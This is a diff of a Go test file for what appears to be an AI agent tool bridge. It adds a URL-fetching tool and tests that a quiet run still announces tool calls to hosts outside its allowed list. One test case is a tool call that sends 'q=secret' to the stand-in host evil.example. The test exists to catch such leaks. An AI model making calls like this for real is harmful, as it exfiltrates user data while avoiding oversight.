@@ -128,6 +128,7 @@ func noteHarness(t *testing.T, change ...func(*bridge.Config)) (*harness, *noteb
 		}},
 		{Name: "erase", Description: "Erase.", Parameters: object, Effect: toolgroups.Consequential, Run: silent, Undo: n.undo},
 		{Name: "look", Description: "Look.", Parameters: object, Effect: toolgroups.ReadOnly, Run: silent},
+		{Name: "open", Description: "Open.", Parameters: json.RawMessage(`{"type":"object","properties":{"url":{"type":"string"}}}`), Effect: toolgroups.ReadOnly, Fetches: true, Run: silent},
 		{Name: "clock", Description: "Tell the time.", Parameters: object, Effect: toolgroups.ReadOnly, Origin: toolgroups.OriginOwn, Run: silent},
 	}, Groups: []toolgroups.Group{{Name: "finding", Tools: []toolgroups.Tool{{Name: "find", Description: "Find.", Parameters: object, Run: silent}}}, {Name: "config", Role: toolgroups.RoleAdmin}}})
 	if err != nil {
@@ -454,22 +455,23 @@ func announcesThroughCrashes(t *testing.T, tool string) {
 // webhook's run is always shown.
 func TestASilentRunUsesOnlyWhatItsLineNames(t *testing.T) {
 	t.Parallel()
-	const look, away, clock = "call look {\"text\":\"https://a.example/x\"}\n", "call look {\"text\":\"https://evil.example/?q=secret\"}\n", "call clock {}\n"
+	const look, away, clock = "call open {\"url\":\"https://a.example/x\"}\n", "call open {\"url\":\"https://evil.example/?q=secret\"}\n", "call clock {}\n"
 	for name, c := range map[string]struct {
 		text    string
 		trigger receipts.Trigger
 		want    string // empty for silence
 	}{
-		"nothing used":                  {"", receipts.Trigger{Quiet: true}, ""},
-		"the clock":                     {clock, receipts.Trigger{Quiet: true}, ""},
-		"its address":                   {look + clock, receipts.Trigger{Quiet: true, Hosts: []string{"a.example"}}, ""},
-		"a tool that is named":          {"call note {\"text\":\"one\"}\n", receipts.Trigger{Quiet: true, Uses: []string{"note"}}, ""},
-		"a group that is named":         {"call find {}\n", receipts.Trigger{Quiet: true, Uses: []string{"finding"}}, ""},
-		"another host":                  {look + away, receipts.Trigger{Quiet: true, Hosts: []string{"a.example"}}, "using look (`evil.example`)."},
-		"a tool that is not named":      {"call note {\"text\":\"one\"}\n", receipts.Trigger{Quiet: true}, "using note"},
-		"words of others without names": {"call look {}\n", receipts.Trigger{Quiet: true, Hosts: []string{"a.example"}}, "using look"},
-		"a webhook":                     {"", receipts.Trigger{Hook: "ci"}, "I have looked at this delivery"},
-		"a webhook that may be quiet":   {"", receipts.Trigger{Hook: "ci", Quiet: true}, "I have looked at this delivery"},
+		"nothing used":                   {"", receipts.Trigger{Quiet: true}, ""},
+		"the clock":                      {clock, receipts.Trigger{Quiet: true}, ""},
+		"its address":                    {look + clock, receipts.Trigger{Quiet: true, Hosts: []string{"a.example"}}, ""},
+		"a tool that is named":           {"call note {\"text\":\"one\"}\n", receipts.Trigger{Quiet: true, Uses: []string{"note"}}, ""},
+		"a group that is named":          {"call find {}\n", receipts.Trigger{Quiet: true, Uses: []string{"finding"}}, ""},
+		"another host":                   {look + away, receipts.Trigger{Quiet: true, Hosts: []string{"a.example"}}, "(`evil.example`)."},
+		"a tool that is not named":       {"call note {\"text\":\"one\"}\n", receipts.Trigger{Quiet: true}, "using note"},
+		"words of others without names":  {"call look {}\n", receipts.Trigger{Quiet: true, Hosts: []string{"a.example"}}, "using look"},
+		"an address beside what is read": {"call look {\"page\":\"https://a.example/x\"}\n", receipts.Trigger{Quiet: true, Hosts: []string{"a.example"}}, "using look"},
+		"a webhook":                      {"", receipts.Trigger{Hook: "ci"}, "I have looked at this delivery"},
+		"a webhook that may be quiet":    {"", receipts.Trigger{Hook: "ci", Quiet: true}, "I have looked at this delivery"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			synctest.Test(t, func(t *testing.T) {
